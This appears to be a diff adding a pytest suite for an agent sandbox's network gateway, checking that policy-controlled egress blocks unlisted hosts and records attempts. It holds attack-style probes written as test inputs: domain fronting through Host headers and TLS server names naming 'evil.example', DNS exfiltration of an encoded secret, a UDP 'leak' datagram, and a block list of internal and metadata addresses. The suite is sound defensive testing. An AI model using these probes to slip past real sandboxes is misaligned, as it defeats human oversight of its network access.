@@ -1,0 +1,371 @@
+"""The network as a policy: every test goes through `gateway run` (or the gate), the real
+sandbox, its resolver and proxy, and real servers on this host's loopback.
+
+The sandbox names the host's loopback server `localhost.` (with the dot: the sandbox's own
+/etc/hosts keeps `localhost` for its own loopback), which its resolver answers and the gateway
+resolves to 127.0.0.1 on the host: an address the policy must list for any of it to connect."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import socket
+import ssl
+import subprocess
+import sys
+import textwrap
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gateway.approval import ApprovalRequest, CallbackApprover
+from gateway.audit import AuditLog
+from gateway.calls import RunCall
+from gateway.pipeline import Gateway
+from gateway.policy.compile import load_policy
+from gateway.policy.loader import PolicyError
+from gateway.sandbox.egress import presets
+from gateway.sandbox.identity import hand_over
+
+POLICY = """\
+version: 1
+principals:
+  agent: {{roles: [dev]}}
+roles:
+  dev: {{level: 2, read_roots: ["."], write_roots: ["."]}}
+tools:
+  run: {{allow_from: 0}}
+rules:
+  - id: python
+    decision: allow
+    justification: "the tests' own scripts and pip"
+    programs: ["python3"]
+    accept_unknown: true
+    examples: {{match: ["python3 x.py"]}}
+  - id: echo
+    decision: allow
+    justification: "saying what happened"
+    programs: ["echo"]
+    examples: {{match: ["echo done"]}}
+sandbox:
+  network: {network}
+"""
+
+CLIENT = textwrap.dedent("""\
+    import socket, ssl, sys, urllib.request
+    kind, target = sys.argv[1], sys.argv[2]
+    try:
+        if kind == "proxy":  # through HTTP_PROXY, as urllib does
+            print("status", urllib.request.urlopen(target, timeout=30).status)
+        elif kind == "raw":  # a program that ignores HTTP_PROXY: a socket to a name
+            host, port, header = target.split(",")
+            s = socket.create_connection((host, int(port)), timeout=30)
+            s.sendall(("GET / HTTP/1.1\\r\\nHost: " + header + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
+            data = s.recv(200)
+            print("status", data.split(b" ")[1].decode() if data else "closed")
+        elif kind == "tls":  # a ClientHello naming a server (SNI) other than the name connected to
+            host, port, sni = target.split(",")
+            s = socket.create_connection((host, int(port)), timeout=30)
+            ctx = ssl.create_default_context()
+            t = ctx.wrap_socket(s, server_hostname=sni)
+            print("status tls-ok")
+        elif kind == "lookup":
+            print("status", socket.gethostbyname(target))
+        elif kind == "udp":
+            host, port = target.rsplit(",", 1)
+            u = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
+            u.sendto(b"leak", (host, int(port)))
+            print("status udp-sent")
+    except Exception as exc:
+        print("refused", type(exc).__name__, str(exc)[:200])
+""")
+
+
+class _Hello(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        body = b"hello\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[int]:
+    """A real HTTP server on the host's loopback."""
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    yield httpd.server_address[1]
+    httpd.shutdown()
+
+
+def _setup(tmp_path: Path, network: str) -> tuple[Path, Path, Path]:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "client.py").write_text(CLIENT)
+    (ws / "index.html").write_text("hello\n")
+    hand_over(ws)
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY.format(network=network))
+    return ws, policy, tmp_path / "audit"
+
+
+def run(policy: Path, ws: Path, audit: Path, command: str, timeout: float = 300) -> str:
+    proc = subprocess.run(
+        [sys.executable, "-m", "gateway", "run", "--policy", str(policy), "--workspace", str(ws),
+         "--audit-dir", str(audit), "--", command],
+        capture_output=True, text=True, timeout=timeout, check=False,
+    )  # fmt: skip
+    return proc.stdout + proc.stderr
+
+
+def records(audit: Path, *events: str) -> list[dict[str, Any]]:
+    out = []
+    for f in sorted(audit.glob("*.jsonl")):
+        for line in f.read_text().splitlines():
+            r = json.loads(line)
+            if not events or r["event"] in events:
+                out.append(r)
+    return out
+
+
+def test_an_allowed_host_is_reached_through_the_proxy_and_recorded(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server}/index.html")
+    assert "status 200" in out, out
+    allowed = records(audit, "egress_allowed")
+    ended = records(audit, "egress_connection")
+    decision = records(audit, "decision")[-1]
+    assert allowed and allowed[0]["data"]["host"] == "localhost" and allowed[0]["data"]["port"] == server
+    assert allowed[0]["call_id"] == decision["call_id"]  # under the call that made it
+    assert ended[-1]["data"]["ended"] == "closed" and ended[-1]["data"]["bytes_in"] > 0
+    assert ended[-1]["data"]["bytes_out"] > 0 and "duration_ms" in ended[-1]["data"]
+
+
+def test_a_program_that_ignores_http_proxy_is_checked_all_the_same(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
+    assert "status 200" in out, out
+    assert [r["data"]["via"] for r in records(audit, "egress_allowed")] == ["transparent"]
+
+
+def test_a_host_header_naming_another_host_is_refused(tmp_path: Path, server: int) -> None:
+    """Domain fronting in plain HTTP: the resolved name is allowed, the request names another."""
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},evil.example")
+    assert "status 200" not in out, out
+    refused = [r for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
+    assert refused and "evil.example" in refused[0]["data"]["why"]
+    assert not records(audit, "egress_allowed")  # nothing reached the server
+
+
+def test_a_tls_server_name_other_than_the_resolved_host_is_refused(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py tls localhost.,{server},evil.example")
+    assert "tls-ok" not in out, out
+    refused = [r for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
+    assert refused and "evil.example" in refused[0]["data"]["why"] and "TLS server name" in refused[0]["data"]["why"]
+
+
+def test_a_lookup_of_an_unlisted_name_is_refused_and_recorded(tmp_path: Path, server: int) -> None:
+    """Exfiltration through the resolver: `<data>.not-allowed.test` never leaves, and is recorded."""
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, "python3 client.py lookup c2VjcmV0.not-allowed.test")
+    assert "refused" in out and "status" not in out, out
+    names = {r["data"]["name"] for r in records(audit, "egress_dns_refused")}
+    assert "c2vjcmv0.not-allowed.test" in names
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["raw 1.1.1.1,443,x", "raw 127.0.0.1,{port},x", "udp 8.8.8.8,53", "udp 1.1.1.1,443", "raw ::1,{port},x",
+     "raw 2606:4700:4700::1111,443,x", "proxy http://127.0.0.1:{port}/", "proxy http://1.1.1.1/"],
+)  # fmt: skip
+def test_literal_addresses_and_udp_are_out_of_reach(tmp_path: Path, server: int, target: str) -> None:
+    """IP literals (v4, v6, the host's own loopback) and UDP: no route out of the sandbox, and
+    the proxy refuses an address the policy does not list (127.0.0.1 is not listed here)."""
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}"]}}')
+    out = run(policy, ws, audit, "python3 client.py " + target.format(port=server))
+    assert "status 200" not in out and "tls-ok" not in out, out
+    assert not records(audit, "egress_allowed")  # a datagram "sent" into the namespace: nothing listens, nothing leaves
+
+
+def test_an_allowed_name_that_resolves_to_loopback_is_refused_unless_the_address_is_listed(
+    tmp_path: Path, server: int
+) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}"]}}')
+    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server},localhost")
+    assert "status 200" not in out, out
+    why = [r["data"]["why"] for r in records(audit, "egress_connection") if r["data"]["decision"] == "deny"]
+    assert why and "loopback, private or link-local" in why[0]
+
+
+def test_an_unlisted_port_of_an_allowed_host_is_refused(tmp_path: Path, server: int) -> None:
+    """CONNECT through the proxy to another port of the same host; and a port the policy can
+    never reach has no listener at all."""
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server + 1}/")
+    assert "status" not in out and "403" in out, out
+    out = run(policy, ws, audit, f"python3 client.py raw localhost.,{server + 1},localhost")
+    assert "status 200" not in out, out
+    assert any(r["data"].get("port") == server + 1 for r in records(audit, "egress_connection"))
+
+
+def test_deny_beats_allow_and_unlisted_hosts_are_refused_with_a_clear_answer(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"], deny: ["localhost"]}}')
+    out = run(policy, ws, audit, f"python3 client.py proxy http://localhost.:{server}/")
+    assert "status 200" not in out, out
+    assert "refused" in out  # the proxy's 403 names the policy
+
+
+def test_an_asked_host_waits_for_a_supervisor_and_goes_on_when_approved(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{ask: ["localhost:{server}"], allow: ["127.0.0.1"]}}')
+    asked: list[ApprovalRequest] = []
+
+    def supervisor(request: ApprovalRequest) -> bool:
+        asked.append(request)
+        return True
+
+    gw = Gateway(load_policy(policy, ws), AuditLog(audit), CallbackApprover(supervisor))
+    try:
+        out = gw.handle(RunCall(principal="agent", command=f"python3 client.py proxy http://localhost.:{server}/"))
+        out2 = gw.handle(RunCall(principal="agent", command=f"python3 client.py raw localhost.,{server},localhost"))
+    finally:
+        gw.close()
+    assert "status 200" in out["stdout"], out
+    assert "status 200" in out2["stdout"], out2
+    assert [r.command for r in asked] == [f"connect localhost:{server}"] * 2  # once per call
+    assert "client.py proxy" in asked[0].reason  # the command that wants it is shown
+    approvals = [r for r in records(audit, "approval") if r["tool"] == "network"]
+    assert approvals and approvals[0]["decision"] == "allow" and approvals[0]["data"]["host"] == "localhost"
+
+
+def test_an_unanswered_ask_is_refused(tmp_path: Path, server: int) -> None:
+    ws, policy, audit = _setup(tmp_path, f'{{ask: ["*:{server}"], allow: ["127.0.0.1"]}}')
+    gw = Gateway(load_policy(policy, ws), AuditLog(audit), CallbackApprover(lambda r: False))
+    try:
+        out = gw.handle(RunCall(principal="agent", command=f"python3 client.py proxy http://localhost.:{server}/"))
+    finally:
+        gw.close()
+    assert "status 200" not in out["stdout"] and "403" in out["stdout"], out
+    assert [r["decision"] for r in records(audit, "approval") if r["tool"] == "network"] == ["deny"]
+
+
+def _pip_can_run() -> bool:
+    return subprocess.run(["/usr/bin/python3", "-m", "pip", "--version"], capture_output=True).returncode == 0
+
+
+@pytest.mark.skipif(not _pip_can_run(), reason="no system pip (make test installs python3-pip)")
+def test_pip_installs_through_the_python_packages_preset_and_not_without_it(tmp_path: Path) -> None:
+    """The registry this machine's pip is set up to use (read from its configuration, never
+    written here): a download and an install of a small wheel work under the preset and fail
+    without it."""
+    found = presets.resolve("python-packages")
+    assert found.hosts, "pip's configuration names no http(s) index"
+    pip = "python3 -m pip --disable-pip-version-check --no-input"
+    ws, policy, audit = _setup(tmp_path, '{presets: ["python-packages"]}')
+    out = run(
+        policy,
+        ws,
+        audit,
+        f"{pip} download --no-deps -d dl six==1.16.0 && {pip} install --no-deps --target lib six==1.16.0"
+        " && echo INSTALLED",
+    )
+    assert "INSTALLED" in out, out
+    assert list((ws / "dl").glob("six-1.16.0*")) and (ws / "lib" / "six.py").exists()
+    hosts = {r["data"]["host"] for r in records(audit, "egress_allowed")}
+    assert hosts and hosts <= {h.split(":")[0] for h in found.hosts}
+    bare = tmp_path / "bare"
+    bare.mkdir()
+    ws2, policy2, audit2 = _setup(bare, "{allow: []}")
+    out = run(
+        policy2, ws2, audit2, f"{pip} download --no-deps --retries 0 --timeout 5 -d dl six==1.16.0 && echo INSTALLED"
+    )
+    assert "INSTALLED" not in out, out
+
+
+@pytest.mark.parametrize(
+    ("network", "why"),
+    [
+        ('{allow: ["*"]}', "'*' under allow"),
+        ('{allow: [""]}', "empty"),
+        ('{allow: ["https://github.com"]}', "scheme"),
+        ('{allow: ["github.com/org"]}', "path"),
+        ('{allow: ["*.com"]}', "top-level domain"),
+        ('{allow: ["git*.com"]}', "'*' only"),
+        ('{deny: ["host:99999"]}', "port"),
+        ('{presets: ["cargo"]}', "python-packages"),
+    ],
+)
+def test_bad_patterns_are_load_errors_with_file_line_and_field(tmp_path: Path, network: str, why: str) -> None:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(POLICY.format(network=network))
+    with pytest.raises(PolicyError) as err:
+        load_policy(policy, tmp_path)
+    message = str(err.value)
+    assert f"{policy}:21:" in message and "sandbox.network" in message and why in message, message
+
+
+def test_an_upper_layer_may_only_narrow_the_network(tmp_path: Path) -> None:
+    lower = tmp_path / "lower.yaml"
+    lower.write_text(POLICY.format(network='{allow: ["*.example.com"], deny: ["metadata.*"]}'))
+    upper = tmp_path / "upper.yaml"
+    for network, ok in [
+        ('{allow: ["api.example.com"], deny: ["metadata.*"]}', True),
+        ("false", True),
+        ("true", False),
+        ('{allow: ["github.com"], deny: ["metadata.*"]}', False),
+        ('{allow: ["api.example.com"]}', True),  # the lower deny stays: layers merge by key
+        ('{ask: ["*"], deny: ["metadata.*"]}', False),
+        ('{presets: ["npm-packages"], deny: ["metadata.*"]}', False),
+    ]:
+        upper.write_text(f"version: 1\ninclude: [lower.yaml]\nsandbox:\n  network: {network}\n")
+        if ok:
+            load_policy(upper, tmp_path)
+        else:
+            with pytest.raises(PolicyError, match=r"sandbox\.network"):
+                load_policy(upper, tmp_path)
+    upper.write_text('version: 1\ninclude: [lower.yaml]\nsandbox:\n  network: {allow: ["api.example.com"]}\n')
+    egress = load_policy(upper, tmp_path).egress
+    assert egress is not None and egress.decide("metadata.internal", 443).verdict == "deny"
+
+
+def test_the_resolver_and_listeners_are_per_sandbox(tmp_path: Path, server: int) -> None:
+    """Another sandbox's proxy is out of reach: each has its own namespace, and an address
+    one sandbox's resolver gave means nothing in another's."""
+    ws, policy, audit = _setup(tmp_path, f'{{allow: ["localhost:{server}", "127.0.0.1"]}}')
+    out = run(policy, ws, audit, f"python3 client.py raw 127.100.0.1,{server},localhost")
+    assert "status 200" not in out, out
+    assert any("no address the sandbox's resolver gave" in r["data"].get("why", "")
+               for r in records(audit, "egress_connection"))  # fmt: skip
+
+
+def test_sni_reader_uses_openssl_on_a_real_client_hello() -> None:
+    from gateway.sandbox.egress import inspect
+
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    obj = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="pypi.org")
+    with pytest.raises(ssl.SSLWantReadError):
+        obj.do_handshake()
+    hello = outgoing.read()
+    assert inspect.classify(hello).name == "pypi.org"
+    assert inspect.classify(hello[:20]).kind == "incomplete"
+    assert inspect.classify(b"\x16\x03\x01\x00\x05hello").error
+
+
+def test_blocked_addresses() -> None:
+    from gateway.sandbox.egress.proxy import blocked
+
+    for a in ("127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "::1", "fe80::1",
+              "fd00::1", "::ffff:127.0.0.1", "100.64.0.1", "0.0.0.0"):  # fmt: skip
+        assert blocked(a), a
+    for a in ("1.1.1.1", "203.0.113.80", "2606:4700:4700::1111"):
+        assert not blocked(a), a
+    assert socket.AF_INET  # (the module's own import)
